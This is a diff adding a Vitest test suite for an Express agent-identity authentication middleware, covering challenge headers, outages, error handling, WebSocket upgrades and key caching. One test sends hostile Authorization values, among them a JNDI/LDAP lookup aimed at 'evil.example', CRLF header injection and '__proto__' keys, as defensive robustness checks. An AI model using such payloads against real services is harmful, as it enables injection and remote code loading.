@@ -1,0 +1,224 @@
+import { request as httpRequest, type IncomingMessage } from "node:http";
+import { connect } from "node:net";
+import type { ErrorRequestHandler } from "express";
+import { describe, expect, test } from "vitest";
+import { agentIdentityAuth, agentIdentityErrorHandler, type AgentIdentityError } from "../../src/index.js";
+import { claims, createSigningKey, mint, signToken } from "../support/agents.js";
+import { assertion, createAgent, createDirectory } from "../support/assertions.js";
+import { expressReleases } from "../support/express.js";
+import { listen, send, startBackend } from "../support/servers.js";
+import { bearer, challenge, expectFailure, MESSAGES, token, type SentHeaders } from "./request-table.js";
+
+describe.each(expressReleases)("%s", (_, express) => {
+  test("on the app, on a router and per route, with realm and resource metadata in every challenge", async () => {
+    const backend = await startBackend();
+    const resourceMetadata = "https://gw.example/.well-known/oauth-protected-resource";
+    const agents = agentIdentityAuth(backend.baseUrl, { realm: 'tasks "A\\B"', resourceMetadata });
+    const router = express.Router().use(agents);
+    router.get("/agent", (req, res) => res.json(req.agentIdentity));
+    const app = express();
+    app.get("/open", (_req, res) => res.json("open"));
+    app.use("/router", router);
+    app.use(agents);
+    app.get("/agent", (req, res) => res.json(req.agentIdentity));
+    app.use(agentIdentityErrorHandler());
+    const { url } = await listen(app);
+
+    expect(await send(`${url}/open`)).toMatchObject({ status: 200 });
+    const prefix = 'Bearer realm="tasks \\"A\\\\B\\""';
+    const suffix = `resource_metadata="${resourceMetadata}"`;
+    for (const path of ["/agent", "/router/agent", "/nowhere"]) {
+      const missing = await send(url + path);
+      expect(missing.headers["www-authenticate"]).toBe(`${prefix}, ${suffix}`);
+      const malformed = await send(url + path, { Authorization: "Bearer" });
+      expect(malformed.headers["www-authenticate"]).toBe(
+        `${prefix}, error="invalid_request", error_description="The Authorization header is malformed.", ${suffix}`,
+      );
+    }
+    expect(await send(`${url}/agent`, bearer(token))).toMatchObject({ status: 200 });
+    expect(await send(`${url}/router/agent`, bearer(token))).toMatchObject({ status: 200 });
+    expect(await send(`${url}/agent`, {}, "OPTIONS")).toMatchObject({ status: 401 });
+    const head = await send(`${url}/agent`, {}, "HEAD");
+    expect(head).toMatchObject({ status: 401, body: "" });
+  });
+
+  test("two backends on one server share nothing", async () => {
+    const production = await startBackend();
+    const stagingKey = createSigningKey("key-1");
+    const staging = await startBackend([stagingKey.jwk]);
+    const app = express();
+    for (const [path, { baseUrl }] of Object.entries({ "/production": production, "/staging": staging })) {
+      app.get(path, agentIdentityAuth(baseUrl), (_req, res) => res.json("ok"));
+    }
+    app.use(agentIdentityErrorHandler());
+    const { url } = await listen(app);
+    const stagingToken = mint({}, stagingKey);
+    expect(await send(`${url}/production`, bearer(token))).toMatchObject({ status: 200 });
+    expect(await send(`${url}/staging`, bearer(stagingToken))).toMatchObject({ status: 200 });
+    expectFailure(await send(`${url}/production`, bearer(stagingToken)), "signature_invalid");
+    expectFailure(await send(`${url}/staging`, bearer(token)), "signature_invalid");
+  });
+
+  test("an outage is 503 with Retry-After and no challenge", async () => {
+    const backend = await startBackend();
+    backend.answer = (_req, res) => res.writeHead(500).end();
+    const app = express().use(agentIdentityAuth(backend.baseUrl)).use(agentIdentityErrorHandler());
+    const { url } = await listen(app);
+    const answer = await send(url, bearer(token));
+    expect(answer.status).toBe(503);
+    expect(answer.headers["retry-after"]).toMatch(/^[12]$/);
+    expect(answer.headers["cache-control"]).toBe("no-store");
+    expect(answer.headers["www-authenticate"]).toBeUndefined();
+    expect(JSON.parse(answer.body)).toEqual({
+      error: {
+        message: "The signing keys are unavailable at the moment. Try again later.",
+        type: "service_unavailable_error",
+        code: "keys_unavailable",
+      },
+    });
+  });
+
+  test("without the error handler, the framework's own answers with status and challenge", async () => {
+    const backend = await startBackend();
+    const { url } = await listen(express().set("env", "test").use(agentIdentityAuth(backend.baseUrl)));
+    const answer = await send(url, bearer("abc"));
+    expect(answer.status).toBe(401);
+    expect(answer.headers["www-authenticate"]).toBe(
+      challenge(...(["invalid_token", MESSAGES.token_malformed[1]] as const)),
+    );
+    expect(answer.headers["cache-control"]).toBe("no-store");
+  });
+
+  test("the error handler passes on what is not ours: a handler's own throw, and what looks like ours", async () => {
+    const backend = await startBackend();
+    const app = express();
+    app.get("/throws", agentIdentityAuth(backend.baseUrl), () => {
+      throw new Error("mine");
+    });
+    app.get("/imitates", () => {
+      throw Object.assign(new Error("imitation"), { status: 401, code: "token_expired", headers: {} });
+    });
+    app.use(agentIdentityErrorHandler());
+    app.use(((error: Error, _req, res, _next) => {
+      res.status(418).json(error.message);
+    }) as ErrorRequestHandler);
+    const { url } = await listen(app);
+    const firstSeen = await send(`${url}/throws`, bearer(token));
+    const remembered = await send(`${url}/throws`, bearer(token));
+    for (const answer of [firstSeen, remembered]) expect(answer).toMatchObject({ status: 418, body: '"mine"' });
+    expect(await send(`${url}/imitates`)).toMatchObject({ status: 418, body: '"imitation"' });
+  });
+
+  test("restrictTo trusts no identity that it finds on the request", async () => {
+    const backend = await startBackend();
+    const agents = agentIdentityAuth(backend.baseUrl);
+    const app = express();
+    app.use((req, _res, next) => {
+      req.agentIdentity = { accountId: "acct-2" } as NonNullable<typeof req.agentIdentity>;
+      next();
+    });
+    app.get("/", agents.restrictTo({ forcedChatgptWorkspaceId: "acct-2" }), () => expect.fail());
+    app.use(agentIdentityErrorHandler());
+    const { url } = await listen(app);
+    expectFailure(await send(url), "credentials_missing");
+    expectFailure(await send(url, bearer(token)), "workspace_not_allowed");
+  });
+
+  test("app.use(agentIdentityAuth) without the call says so at the first request", async () => {
+    const app = express().use(agentIdentityAuth as unknown as ReturnType<typeof agentIdentityAuth>);
+    app.use(((error: Error, _req, res, _next) => {
+      res.json(error.message);
+    }) as ErrorRequestHandler);
+    const { url } = await listen(app);
+    expect((await send(url)).body).toContain('app.use(agentIdentityAuth(\\"https://chatgpt.com/backend-api\\"))');
+  });
+
+  test("hostile headers: the process lives and answers the next request", async () => {
+    const backend = await startBackend();
+    const app = express();
+    app.use(agentIdentityAuth(backend.baseUrl), (req, res) => res.json(req.agentIdentity));
+    app.use(agentIdentityErrorHandler());
+    const { url } = await listen(app);
+    const hostileKid = "\u0000\u001b[31m\r\nSet-Cookie: a=b\u2028\ud800é";
+    const hostile = [
+      `Bearer ${signToken({ alg: "RS256", kid: hostileKid }, claims())}`,
+      `Bearer ${signToken({ alg: "RS256", kid: "__proto__" }, claims())}`,
+      `Bearer ${signToken('{"__proto__":{"alg":"RS256"}}', claims())}`,
+      `Bearer ${"A".repeat(15_000)}`,
+      `Bearer ${"a.".repeat(7_000)}`,
+      `Bearer ${Buffer.from("[".repeat(9_000)).toString("base64url")}.e30.AA`,
+      `Bearer${" ".repeat(15_000)}`,
+      `Bearer ${" ".repeat(7_000)}x${" ".repeat(7_000)}x`,
+      "\u0080\u00ff".repeat(1000),
+      "Bearer \u00a0\u00ad",
+      ',,,,="\\',
+      "Bearer ${jndi:ldap://evil.example}",
+    ];
+    for (const authorization of hostile) {
+      const answer = await send(url, { Authorization: authorization });
+      expect([400, 401]).toContain(answer.status);
+      expect(JSON.stringify(answer.headers) + answer.body).not.toMatch(/evil|Set-Cookie/i);
+      expect(answer.headers["set-cookie"]).toBeUndefined();
+      expect(await send(url, bearer(token))).toMatchObject({ status: 200 });
+    }
+    for (const raw of [
+      "GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer a\u0000\u007fb\r\n\r\n",
+      "\u0016\u0003\u0001",
+    ]) {
+      await sendRaw(url, raw);
+      expect(await send(url, bearer(token))).toMatchObject({ status: 200 });
+    }
+  });
+});
+
+function sendRaw(url: string, text: string): Promise<void> {
+  return new Promise((resolve, reject) => {
+    const { hostname, port } = new URL(url);
+    const socket = connect(Number(port), hostname, () => socket.end(text, "latin1"));
+    socket.resume().on("close", () => {
+      resolve();
+    });
+    socket.on("error", reject);
+  });
+}
+
+test("authenticate serves a WebSocket upgrade, and always requires credentials", async () => {
+  const backend = await startBackend();
+  const signer = createAgent("agent-2");
+  const agents = agentIdentityAuth(backend.baseUrl, {
+    credentialsRequired: false,
+    assertions: createDirectory(signer),
+  });
+  const { url, server } = await listen((_req, res) => res.end());
+  server.on("upgrade", (req, socket) => {
+    agents.authenticate(req).then(
+      (identity) => socket.end(`HTTP/1.1 101 Switching Protocols\r\nX-Agent: ${identity.agentRuntimeId}\r\n\r\n`),
+      (error: unknown) =>
+        socket.end(`HTTP/1.1 ${String((error as AgentIdentityError).status)} No\r\nContent-Length: 0\r\n\r\n`),
+    );
+  });
+  const upgrade = (headers: SentHeaders) =>
+    new Promise<IncomingMessage>((resolve, reject) => {
+      httpRequest(url, { headers: { Connection: "Upgrade", Upgrade: "websocket", ...headers } })
+        .on("upgrade", resolve)
+        .on("response", resolve)
+        .on("error", reject)
+        .end();
+    });
+  expect((await upgrade(bearer(token))).headers["x-agent"]).toBe("agent-1");
+  expect((await upgrade({ Authorization: assertion(signer) })).headers["x-agent"]).toBe("agent-2");
+  expect((await upgrade({ Authorization: "AgentAssertion e30" })).statusCode).toBe(401);
+  expect((await upgrade({})).statusCode).toBe(401);
+});
+
+test("a factory called per request makes one key set and one fetch", async () => {
+  const backend = await startBackend();
+  const { url } = await listen((req, res) => {
+    agentIdentityAuth(backend.baseUrl)(req, res, (error) => {
+      res.writeHead(error ? 500 : 200).end();
+    });
+  });
+  const answers = await Promise.all(Array.from({ length: 20 }, () => send(url, bearer(mint()))));
+  expect(answers.map(({ status }) => status)).toEqual(Array(20).fill(200));
+  expect(backend.fetches).toBe(1);
+});
